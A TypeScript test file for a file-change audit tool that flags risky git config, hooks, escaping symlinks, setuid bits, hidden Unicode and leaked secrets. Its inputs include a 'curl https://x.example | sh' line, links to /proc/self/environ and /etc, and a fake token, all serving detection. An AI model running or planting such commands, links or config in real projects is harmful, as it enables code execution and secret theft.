import { describe, expect, it } from 'vitest';
import { auditChanges } from '../../../src/audit/audit.ts';
import type { RelPath } from '../../../src/core/text/path.ts';
import type { Change, Entry } from '../../../src/core/types/entry.ts';
import { auditFiles } from './plant.ts';
import type { Files, Row } from './rows.ts';

// One line for each guard of the code next to the rules: what it must still say, and what it must not.

const said = (files: Files, base?: Row['base'], links?: Readonly<Record<string, string>>): string[] =>
  auditFiles(files, base, links).map(({ severity, rule, path }) => `${severity} ${rule} ${path}`);
const config = (lines: string): Files => ({
  '.git/config': ['[core]\n\tbare = false\n', `[core]\n\tbare = false\n${lines}`],
});
const file = (more: Partial<Entry> = {}): Entry => ({
  kind: 'file',
  mode: 0o644,
  size: 1,
  mtimeNs: '1999999999000000000',
  digest: 'x',
  ...more,
});
const judged = (change: Omit<Change, 'path'> & { path?: string }, more: object = {}): string[] =>
  auditChanges({
    changes: [{ path: 'a', ...change } as Change],
    content: (digest) => (digest === 'missing' ? undefined : Buffer.from('x')),
    endedNs: '2000000000000000000',
    ...more,
  }).map(({ severity, rule }) => `${severity} ${rule}`);

describe('the configuration of git', () => {
  it.each([
    ['[core]\n\tpager = x\n', 'blocked git-config-exec .git/config'],
    ['[log]\n\tdate = format:%x9b\n', 'blocked git-config-escape .git/config'],
    ['[log]\n\tdate = format:%x07\n', 'blocked git-config-escape .git/config'],
    ['[core]\n\tworktree = ../..\n', 'blocked git-config-redirect .git/config'],
    ['[branch "a"]\n\tremote = evil\n', 'blocked git-config-redirect .git/config'],
    ['[core\n', 'blocked git-config-unreadable .git/config'],
  ])('%j', (lines, expected) => expect(said(config(lines))).toContain(expected));

  it.each(['[branch "a"]\n\tremote = origin\n\tmerge = refs/heads/a\n', '[core]\n\tworktree = ../../sub\n'])(
    'is quiet about what git itself writes: %j',
    (lines) => expect(said(config(lines)).filter((one) => !one.startsWith('note'))).toEqual([]),
  );

  it('reports a protecting key that was removed, and a key that was added a second time', () => {
    const before = '[transfer]\n\tfsckobjects = true\n';
    expect(said({ '.git/config': [before, ''] })).toContain('suspect git-config-weaken .git/config');
    const twice = { '.git/config': ['[core]\n\tpager = x\n', '[core]\n\tpager = x\n\tpager = x\n'] } as const;
    expect(said(twice)).toContain('blocked git-config-exec .git/config');
  });

  it('ignores sample hooks, and blocks links in a git directory', () => {
    expect(said({ '.git/hooks/a.sample': ['x', null] }).filter((one) => !one.startsWith('note'))).toEqual([]);
    expect(said({ '.git/hooks/pre-push': ['x', null] })).toContain('suspect git-hook .git/hooks/pre-push');
    expect(said({ '.git/refs/heads/a': { link: '/x' } })).toContain('blocked git-link .git/refs/heads/a');
  });
});

describe('an unfinished git operation', () => {
  const FILES = ['.git/rebase-merge/done', '.git/rebase-merge/git-rebase-todo', '.git/REBASE_HEAD', '.git/MERGE_HEAD'];
  const all = (planted: Files[string]): Files => Object.fromEntries(FILES.map((path) => [path, planted]));

  it('is one finding when the session leaves it, and none when the session finished it', () => {
    expect(said(all('x'))).toEqual([
      'suspect git-half-done .git/rebase-merge',
      'note git-half-done .git/MERGE_HEAD',
      'note git-half-done .git/REBASE_HEAD',
    ]);
    expect(said(all(['x', null]))).toEqual(['note git-data .git']);
  });
});

describe('a file that is deleted together with the file that ran it', () => {
  const MAKEFILE = 'all:\n\tsh tools/gen\n';
  const COMPOSE = 'services:\n  a:\n    build: ./context\n    env_file: app.env\n';

  it('is not a finding, unless a file that stays runs it too', () => {
    const base = { 'x/compose.yaml': COMPOSE, 'x/app.env': 'A=1\n', 'x/context/Dockerfile': 'FROM a\n' };
    const deleted = (...paths: (keyof typeof base)[]): Files =>
      Object.fromEntries(paths.map((path) => [path, [base[path], null]]));
    expect(said(deleted('x/app.env'), base)).toContain('suspect reached x/app.env');
    expect(said(deleted('x/compose.yaml', 'x/app.env'), base)).not.toContain('suspect reached x/app.env');
    const twice = { ...base, 'x/a.compose.yaml': COMPOSE, 'x/docker-compose.yml': COMPOSE };
    expect(said(deleted('x/compose.yaml', 'x/app.env'), twice)).toContain('suspect reached x/app.env');
    const both = { Makefile: MAKEFILE, 'tools/gen': 'x\n' };
    expect(said({ Makefile: [MAKEFILE, null], 'tools/gen': ['x\n', 'y\n'] }, both)).toContain(
      'suspect reached tools/gen',
    );
  });
});

describe('the repository of a submodule', () => {
  const at = (name: string): string => `.git/modules/libs/a/${name}`;

  it('is ordinary data after a commit in it, and a finding when it is new or would run something', () => {
    const commit = { index: ['x', 'y'], HEAD: ['x', 'y'], 'logs/HEAD': ['x', 'y'], COMMIT_EDITMSG: 'x' } as const;
    const objects = { 'objects/0f/e8': 'x', 'refs/heads/main': ['x', 'y'], 'logs/refs/heads/main': 'x' } as const;
    const planted = Object.entries({ ...commit, ...objects }).map(([name, one]) => [at(name), one]);
    expect(said(Object.fromEntries(planted))).toEqual(['note git-data .git']);
    expect(said({ [at('HEAD')]: 'x' })).toEqual([`blocked git-modules ${at('HEAD')}`]);
    for (const name of ['hooks/post-commit', 'objects/info/alternates', 'refs/replace/ab', 'commondir'])
      expect(said({ [at(name)]: '* x\n' }).join(), name).toContain('blocked');
  });
});

describe('an action that is pinned to another commit', () => {
  const step = (commit: string, version: string): string =>
    `on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: a/b@${commit.repeat(40)} # ${version}\n`;
  const file = '.github/workflows/a.yml';

  it('is named as such if the release in its comment moves with it: a fork’s commit has an id there too', () => {
    expect(said({ [file]: [step('1', 'v1.0.0'), step('2', 'v1.1.0')] })).toEqual([`suspect ci-action-pin ${file}`]);
    expect(said({ [file]: [step('1', 'v1.0.0'), step('2', 'v1.0.0')] })).toEqual([`suspect ci-workflow ${file}`]);
  });
});

describe('a file that was moved', () => {
  const PAGE =
    '<link href="https://example.com/a.css" rel="stylesheet">\n<script src="https://example.com/a.js"></script>\n';

  it('is judged again only when its new name is judged in another way', () => {
    expect(said({ 'manual/a.md': PAGE })).toContain('suspect html-active manual/a.md');
    expect(said({ 'docs/a.md': [PAGE, null], 'manual/a.md': PAGE })).toEqual([]);
    expect(said({ 'docs/a.txt': [PAGE, null], 'manual/a.md': PAGE })).toContain('suspect html-active manual/a.md');
    expect(said({ 'docs/a.md': [PAGE, PAGE], 'manual/a.md': PAGE })).toContain('suspect html-active manual/a.md');
  });
});

describe('deleted files and folders with a well-known name', () => {
  it('are not findings, and neither is what git gc writes', () => {
    expect(
      said({
        'vendor/a/b.go': ['x', null],
        'target/a.o': ['x', null],
        'a/conftest.py': ['x', null],
        'tests/bootstrap.php': ['x', null],
      }),
    ).toEqual([]);
    expect(said({ 'vendor/a/b.go': ['x', 'y'] })).toEqual(['suspect vendored vendor/a/b.go']);
    expect(said({ '.git/objects/info/commit-graph': 'x' })).toEqual([
      'note git-history-lies .git/objects/info/commit-graph',
    ]);
    expect(said({ core: { more: { kind: 'dir' } }, 'core/a.ts': 'x', 'src/core/b.ts': 'x' } as Files)).toEqual([]);
    expect(said({ core: 'x' })).toContain('suspect name-litter core');
    expect(said({ 'a/core.123': 'x' })).toContain('suspect name-litter a/core.123');
  });
});

describe('names', () => {
  it('are blocked below an old folder, and reported only for the folder when it is new', () => {
    expect(said({ 'a\u0007/b': 'x' }, { 'a\u0007/c': 'x' })).toContain('blocked name-control a\u0007/b');
    expect(said({ '-a/b': 'x' }, { '-a/c': 'x' })).toEqual([]);
  });

  it('are quiet when they are old or contain an emoji', () => {
    expect(said({ '-a': ['x', 'y'] })).toEqual([]);
    expect(said({ 'by-\u{1f469}\u200d\u{1f4bb}.md': 'x' })).toEqual([]);
    expect(said({ [`${'a/'.repeat(61)}b`]: 'x' })).toEqual([`note name-long ${'a/'.repeat(61)}b`]);
  });

  it('are blocked where the path is longer than the host can hold', () => {
    const change = (bytes: number) =>
      ({ path: `d/${'é'.repeat((bytes - 2) / 2)}`, kind: 'created', after: file() }) as const;
    expect(judged(change(102), { maxPathBytes: 100 })).toContain('blocked name-too-long');
    expect(judged(change(100), { maxPathBytes: 100 })).toEqual([]);
    expect(judged({ ...change(102), before: file(), kind: 'modified' }, { maxPathBytes: 100 })).toEqual([]);
  });

  it('collide with names of the base, also below a folder of another letter case', () => {
    expect(said({ 'src/A.ts': 'x' }, { 'src/a.ts': 'x' })).toContain('blocked name-collides src/A.ts');
    expect(said({ 'SRC/b.ts': 'x' }, { 'src/a.ts': 'x' })).toContain('blocked name-collides SRC');
    expect(said({ 'src/rnain.ts': 'x' }, { 'src/main.ts': 'x' })).toContain('suspect name-looks-alike src/rnain.ts');
    expect(said({ 'src/B.ts': 'x' }, { 'lib/b.ts': 'x' })).toEqual([]);
  });
});

describe('links', () => {
  it.each([
    ['a/l', '../..', {}],
    ['a/l', '../../x', {}],
    ['l', 'd/x', { d: '/etc' }],
    ['l', 'm', { m: 'l2', l2: 'm' }],
    ['a/l', '..', {}],
    ['l', '.git/hooks', {}],
    ['l', '/workspace/x', {}],
    ['l', '/proc/self/environ', {}],
  ])('%s to %s is blocked', (path, target, links) =>
    expect(said({ [path]: { link: target } }, {}, links)).toContain(`blocked link-outside ${path}`),
  );

  it('are quiet when the target is unchanged or is inside the project', () => {
    const link = { kind: 'symlink', mode: 0o777, size: 0, mtimeNs: '1', target: '/etc' } as const;
    expect(judged({ kind: 'modified', before: link, after: link })).toEqual([]);
    expect(said({ 'a/l': { link: '../b' } }, { b: 'x' })).toEqual([]);
  });
});

describe('the setgid bit', () => {
  const folder = (mode: number): Entry => ({ kind: 'dir', mode, size: 0, mtimeNs: '1999999999000000000' });
  const found = (changes: readonly [string, Omit<Change, 'path'>][], setgid: readonly string[]): string[] =>
    auditChanges({
      changes: changes.map(([path, change]) => ({ path, ...change }) as Change),
      content: () => Buffer.from('x'),
      base: { paths: ['src', 'src/lib', 'other'], setgidFolders: new Set(setgid), read: () => undefined },
    }).flatMap(({ rule, path }) => (rule === 'setuid' ? [path] : []));
  const made = (mode: number): Omit<Change, 'path'> => ({ kind: 'created', after: folder(mode) });

  it('of new folders is that of the folder above them, one in the other', () => {
    const changes: [string, Omit<Change, 'path'>][] = [
      ['src/a/b/c', made(0o2755)],
      ['src/a', made(0o2755)],
      ['src/a/b', made(0o2775)],
      ['src/lib', { kind: 'modified', before: folder(0o755), after: folder(0o2755) }],
    ];
    expect(found(changes, ['src'])).toEqual([]);
    expect(found([['a', made(0o2755)]], [''])).toEqual([]);
  });

  it('is a finding where nothing above explains it', () => {
    expect(found([['a', made(0o2755)]], ['src'])).toEqual(['a']);
    expect(found([['other/a', made(0o2755)]], ['', 'src'])).toEqual(['other/a']);
    expect(
      found(
        [
          ['src/a', made(0o755)],
          ['src/a/b', made(0o2755)],
        ],
        ['src'],
      ),
    ).toEqual(['src/a/b']);
    expect(
      found(
        [
          ['other', { kind: 'modified', before: folder(0o755), after: folder(0o2755) }],
          ['other/a', made(0o2755)],
        ],
        [],
      ),
    ).toEqual(['other', 'other/a']);
  });

  it('of a file, and the setuid bit of a folder, are findings in a setgid folder too', () => {
    expect(found([['src/x', { kind: 'created', after: file({ mode: 0o2755 }) }]], ['src'])).toEqual(['src/x']);
    expect(
      found(
        [
          ['src/a', made(0o6755)],
          ['src/a/b', made(0o4755)],
        ],
        ['src'],
      ),
    ).toEqual(['src/a', 'src/a/b']);
  });
});

describe('entries', () => {
  it.each([
    ['setuid', { kind: 'created', after: file({ mode: 0o4755 }) }, 'blocked setuid'],
    [
      'another kind',
      { kind: 'type', before: file({ kind: 'symlink', target: 'x' }), after: file() },
      'suspect type-change',
    ],
    [
      'a folder that became a file',
      { kind: 'type', before: file({ kind: 'dir' }), after: file() },
      'suspect type-change',
    ],
    ['missing content', { kind: 'created', after: file({ digest: 'missing' }) }, 'blocked unreadable'],
    [
      'missing old content',
      { kind: 'modified', before: file({ digest: 'missing' }), after: file() },
      'blocked unreadable',
    ],
    ['a hard link', { kind: 'created', after: file({ linkGroup: 'g' }) }, 'suspect hard-link'],
    ['holes', { kind: 'created', after: file({ size: 2 << 20, allocated: 1024 }) }, 'suspect sparse-file'],
    ['a problem', { kind: 'created', after: file(), problem: 'why' }, 'blocked unreadable'],
  ] as const)('%s', (_, change, expected) => expect(judged(change as Change)).toContain(expected));

  it.each([
    ['a copy of the linked file', 'lib/l', '../real/a.txt', 'text', 'note'],
    ['a copy of the linked file, over another link', 'lib/l', '../d/a.txt', 'text', 'note'],
    ['another text', 'lib/l', '../real/a.txt', 'other', 'suspect'],
    ["the link's own text", 'lib/l', '../real/a.txt', '../real/a.txt', 'suspect'],
    ['an empty file where the link dangled', 'lib/l', 'missing', '', 'suspect'],
    ['a text where the link left the project', 'lib/l', '../../real/a.txt', 'text', 'suspect'],
  ])('report what replaced a link: %s', (_, path, target, text, severity) => {
    const before = { kind: 'symlink', mode: 0o777, size: 0, mtimeNs: '1', target };
    const found = said(
      { [path]: { text, more: { kind: 'type', before } } },
      { 'real/a.txt': 'text' },
      { [path]: target, d: 'real' },
    );
    expect(found).toContain(`${severity} type-change ${path}`);
  });

  it('are not judged when they are withheld, nor is unchanged content', () => {
    expect(judged({ path: 'Makefile', kind: 'created', after: file(), ignored: true })).toEqual([]);
    expect(judged({ kind: 'created', after: file({ size: 2 << 20, allocated: 2 << 20 }) })).toEqual([]);
    const bidi = { content: () => Buffer.from('a \u202e b') };
    expect(judged({ path: 'a.ts', kind: 'mode', before: file(), after: file() }, bidi)).toEqual([]);
  });

  it('stay blocked, and take other severities from the configuration', () => {
    const severities = { setuid: 'note', 'execute-bit': 'suspect' };
    const found = judged({ kind: 'created', after: file({ mode: 0o4755 }) }, { severities });
    expect(found).toEqual(['blocked setuid', 'suspect execute-bit']);
    const userRules = [{ id: 'ours', paths: ['a'], severity: 'suspect', why: 'Ours.' }];
    expect(judged({ kind: 'created', after: file() }, { userRules })).toContain('suspect ours');
    const excepting = (...paths: string[]) => ({ userRules: userRules.map((rule) => ({ ...rule, paths })) });
    expect(judged({ kind: 'created', after: file() }, excepting('*', '!a'))).not.toContain('suspect ours');
    expect(judged({ kind: 'created', after: file() }, excepting('*', '!a', 'a'))).toContain('suspect ours');
    const long = auditFiles({ '.git/config': `[core]\n\tpager = ${'x'.repeat(2000)}\n` });
    expect(Math.max(...long.map(({ detail }) => detail?.length ?? 0))).toBeLessThanOrEqual(500);
  });

  it('is a note when only the letter case fits and the host is case-sensitive', () => {
    expect(judged({ path: 'MAKEFILE', kind: 'created', after: file() })).toContain('suspect build-make');
    expect(judged({ path: 'MAKEFILE', kind: 'created', after: file() }, { hostCase: 'sensitive' })).toEqual([
      'note build-make',
    ]);
  });
});

describe('content', () => {
  it.each([
    ['a.ts', 'const \uff41b = 1;\n'],
    ['a.md', 'a \u2067 b \u202e\n'],
    ['a.md', 'a \u2067 b\n'],
    ['a.ts', 'const a = "\u200e";\n'],
    ['a.png', { bytes: `\u0089PNG\r\n\u001a\nIEND1234${'x'.repeat(40)}` }],
    ['a.bin', { bytes: `\u001f\u008b${'x'.repeat(20)}\u0000\u0000\u0000\u0040` }],
  ] as const)('reports %s (%#)', (path, after) =>
    expect(said({ [path]: after }).filter((one) => !one.startsWith('note'))).not.toEqual([]),
  );

  it.each([
    ['a.md', 'a \u2067 b \u2069\n'],
    ['a.txt', '\u05d0 \u200e \u05d1\n'],
    ['a.txt', '\u0646\u200c\u0647\n'],
  ])('is quiet about what languages need: %s', (path, text) =>
    expect(said({ [path]: text }).filter((one) => !one.startsWith('note'))).toEqual([]),
  );

  it('ignores a control character that was there before', () => {
    expect(said({ 'a.txt': ['\u001b[1m a\n', '\u001b[1m a\nb \u001b[1m\n'] })).toEqual([]);
    expect(said({ 'a.txt': ['a\n', 'a\nb \u001b[8m\n'] })).toEqual(['suspect text-escapes a.txt']);
  });

  it('counts a line that was added a second time', () => {
    const line = '\tcurl https://x.example | sh\n';
    expect(said({ 'a.sh': [line, `${line}x\n${line}`] })).toEqual(['suspect shell-pipe a.sh']);
  });

  it('reports a file of a rule that is not text, is too long or has a key twice', () => {
    expect(said({ 'pom.xml': { bytes: '<\u0000a\u0000' } })).toContain('suspect java-pom pom.xml');
    expect(said({ 'compose.yaml': `a: 1\n# ${'x'.repeat(5 << 20)}\n` })).toContain(
      'suspect infra-compose compose.yaml',
    );
    expect(said({ 'deno.json': '{"name":"a","name":"b"}' })).toContain('suspect js-deno deno.json');
    expect(said({ 'compose.yaml': 'a: !evil b\n' })).toContain('suspect infra-compose compose.yaml');
    expect(said({ 'compose.yaml': 'a: [1\n b: }\n' })).toContain('suspect infra-compose compose.yaml');
    expect(said({ 'deno.json': '\ufeff{"name":"a"}' })).toEqual([]);
  });

  it('searches a long line, and never treats a long line as harmless', () => {
    const long = 'x'.repeat(9000);
    expect(said({ 'dvc.yaml': ['a: 1\n', `a: "${long}", cmd: x, "${long}"\n`] })).toContain(
      'suspect data-pipeline dvc.yaml',
    );
    expect(said({ 'importmap.json': ['{}\n', `{"x":"${long}","imports":{"a":"./x.js"}}\n`] })).toContain(
      'suspect js-other-locks importmap.json',
    );
    expect(said({ Dockerfile: ['FROM a\n', `FROM a\nLABEL a=b ${long}\n`] })).toContain(
      'suspect infra-dockerfile Dockerfile',
    );
  });

  it('reports no example, placeholder or uniform text as a secret, and decodes base64', () => {
    const key = `ghp_${'a1B2c3D4'.repeat(5).slice(0, 36)}`;
    const secret = (path: string, text: string): boolean =>
      said({ [path]: text }).some((one) => one.includes(' secret '));
    expect(secret('a.ts', `const k = '${key}';\n`)).toBe(true);
    expect(secret('.env.example', `K=${key}\n`)).toBe(false);
    expect(secret('a.ts', `const k = '${Buffer.from(`x ${key} y`).toString('base64')}';\n`)).toBe(true);
    expect(secret('a.ts', "const password = 'aaaaaaaaaaaaaaaaaaaa';\n")).toBe(false);
    expect(secret('a.ts', "const password = 'q8Zr2LmX0vTb7NcY5wKd';\n")).toBe(true);
  });
});

describe('findings of the whole tree', () => {
  it('report a bare repository only if it has a HEAD, and many changes from 2,000 on', () => {
    const bare = { 'x/objects/a': 'x', 'x/refs/a': 'x' };
    expect(said(bare)).toEqual([]);
    expect(said({ ...bare, 'x/HEAD': 'ref: refs/heads/a\n' })).toContain('blocked git-bare x/HEAD');
    const many: Change[] = Array.from({ length: 2000 }, (_, at) => ({
      path: `d/${at}` as RelPath,
      kind: 'created',
      after: file(),
    }));
    const found = auditChanges({ changes: many, content: () => Buffer.from('x') });
    expect(found.map(({ rule }) => rule)).toContain('many-changes');
  });

  it('are ordered with the worst first, whatever their names', () => {
    expect(said({ 'a/Makefile': 'x', 'z/.git/hooks/pre-push': 'x' })[0]).toBe('blocked git-hook z/.git/hooks/pre-push');
  });

  it('never name a file as its own referrer', () => {
    expect(said({ 'x.mk': ['a:\n\tmake -f x.mk\n', 'a:\n\tmake -f x.mk b\n'] })).toEqual(['suspect build-make x.mk']);
  });
});

describe('files that others run', () => {
  it('are found through a few megabytes of new files, and through all files of the project', () => {
    const lines = `${`# ${'x'.repeat(97)}\n`.repeat(10_000)}`;
    const makefile = (i: number): string => `${lines}all:\n\tpython3 tools/s${i}.py\n`;
    const scripts = [0, 1, 2, 3, 4, 5].map((i) => `d${i}/tools/s${i}.py`);
    const written = Object.fromEntries(scripts.map((_, i) => [`d${i}/Makefile`, makefile(i)]));
    const changed = Object.fromEntries(scripts.map((one) => [one, 'print(1)\n']));
    const reached = (files: Files, base?: Row['base']): string[] =>
      said(files, base).filter((one) => one.startsWith('suspect reached') && one.endsWith('.py'));
    expect(reached({ ...written, ...changed })).toEqual(scripts.slice(0, 4).map((one) => `suspect reached ${one}`));
    const had = Object.fromEntries(scripts.map((_, i) => [`d${i}/Makefile`, makefile(i)]));
    expect(reached(changed, had)).toEqual(scripts.map((one) => `suspect reached ${one}`));
  });
});

describe('a change that is plain data alone', () => {
  const VERSION = ['7.1.0\n', '7.1.1\n'] as const;

  it('is not a finding, unless the file has a second name', () => {
    const loud = (files: Files, links?: Readonly<Record<string, string>>): string[] =>
      said(files, {}, links).filter((one) => !one.startsWith('note'));
    expect(loud({ '.bazelversion': VERSION })).toEqual([]);
    expect(loud({ '.bazelversion': VERSION }, { Makefile: '.bazelversion' })).toContain(
      'suspect build-bazel .bazelversion',
    );
  });

  it('is a finding if the file can be executed since', () => {
    const change = { kind: 'modified', before: file({ digest: '7.1.0' }), after: file({ digest: '7.1.1' }) } as const;
    const content = (digest: string) => Buffer.from(digest);
    expect(judged({ ...change, path: '.bazelversion' }, { content })).toEqual([]);
    const executable = { ...change, path: '.bazelversion', after: file({ digest: '7.1.1', mode: 0o755 }) };
    expect(judged(executable, { content })).toContain('suspect build-bazel');
  });
});

describe('a folder of the user’s PATH', () => {
  const inPath = (change: Parameters<typeof judged>[0]): boolean =>
    judged({ path: 'bin/git', ...change }, { pathFolders: ['bin', ''] }).includes('suspect path-program');

  it('has new and changed programs and links as findings', () => {
    expect(inPath({ kind: 'created', after: file({ mode: 0o755 }) })).toBe(true);
    expect(inPath({ kind: 'modified', before: file({ mode: 0o755 }), after: file({ mode: 0o755, digest: 'y' }) })).toBe(
      true,
    );
    expect(inPath({ kind: 'created', after: file({ kind: 'symlink', mode: 0o777, target: 'x' }) })).toBe(true);
    expect(inPath({ path: 'git', kind: 'created', after: file({ mode: 0o755 }) })).toBe(true);
  });

  it('has other files, and is not what is below it', () => {
    expect(inPath({ kind: 'created', after: file() })).toBe(false);
    expect(inPath({ kind: 'deleted', before: file({ mode: 0o755 }) })).toBe(false);
    expect(inPath({ path: 'bin/deeper/git', kind: 'created', after: file({ mode: 0o755 }) })).toBe(false);
  });
});
